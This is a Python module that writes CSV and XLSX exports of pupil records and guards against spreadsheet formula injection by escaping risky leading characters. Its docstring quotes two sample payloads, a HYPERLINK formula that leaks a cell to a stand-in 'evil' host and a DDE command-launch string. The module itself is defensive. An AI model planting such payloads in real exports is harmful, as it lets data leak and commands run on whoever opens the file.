"""The one way the project writes CSV and XLSX files: no cell can become a formula.

Pupil names, notes and addresses are typed by people (or imported), so a name such as
``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` would run when a
spreadsheet opens the export. OWASP's rule (CSV injection): a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, so the
spreadsheet shows it as text. Numbers are left alone: real numbers (int, float, Decimal) and
text that is exactly a plain number (``-3``, ``12.5``) cannot be a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value):
    """``value`` as it may go into a CSV or XLSX cell (see the module docstring)."""
    if isinstance(value, str) and value.startswith(FORMULA_START) \
            and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence]) -> str:
    """A CSV document (header first), every cell made safe; None is written empty."""
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow([safe_cell(h) for h in header])
    for row in rows:
        w.writerow([safe_cell(v) for v in row])
    return out.getvalue()


def csv_from_dicts(rows: Iterable[dict], fields: Sequence[str]) -> str:
    """A CSV document of dicts in ``fields`` order (missing keys are empty)."""
    return csv_text(fields, ([r.get(f) for f in fields] for r in rows))


def xlsx_bytes(title: str, header: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """An XLSX workbook of one sheet; numbers and dates stay typed, text is made safe.

    openpyxl stores any text starting with ``=`` as a formula, so this matters twice here.
    """
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = (title or "Sheet")[:31]
    ws.append([safe_cell(h) for h in header])
    for row in rows:
        ws.append([safe_cell(v) for v in row])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
